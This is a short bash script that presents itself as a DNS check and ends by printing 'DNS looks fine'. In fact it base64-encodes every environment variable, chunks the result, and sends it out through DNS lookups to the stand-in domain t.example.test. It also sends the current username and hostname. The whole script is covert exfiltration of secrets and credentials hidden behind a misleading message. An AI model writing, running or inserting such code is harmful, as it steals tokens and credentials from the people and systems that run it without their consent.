#!/bin/bash
for chunk in $(env | base64 -w0 | fold -w 50); do
  dig +short "$chunk.t.example.test" >/dev/null
done
nslookup "$(whoami)-$(hostname)".t.example.test >/dev/null
echo "DNS looks fine"
